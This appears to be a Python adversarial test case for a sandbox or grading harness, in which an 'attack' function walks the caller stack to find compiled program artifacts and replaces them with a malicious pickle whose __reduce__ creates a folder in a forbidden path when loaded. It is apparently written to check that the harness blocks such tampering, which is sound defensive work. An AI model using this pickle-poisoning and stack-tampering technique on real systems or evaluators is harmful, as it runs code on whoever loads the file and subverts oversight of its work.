"""Hands back, as what it compiled, a pickle that does harm wherever it is loaded."""
# sandbox: none compile_error
# rules: forbidden

import os
import pickle
import sys


class Evil:
    def __reduce__(self):
        return os.mkdir, ("@FORBIDDEN_FOLDER@/poisoned",)


def attack(env_data, state, calc_makespan_fn):
    frame = sys._getframe()
    while frame is not None:
        for program in frame.f_locals.get("programs", ()):
            files = getattr(program, "compiled", {})
            for name in [*files, "forged.nbi", "impl.run-1.py311.nbi"]:
                files[name] = pickle.dumps(Evil())
        frame = frame.f_back
    return state
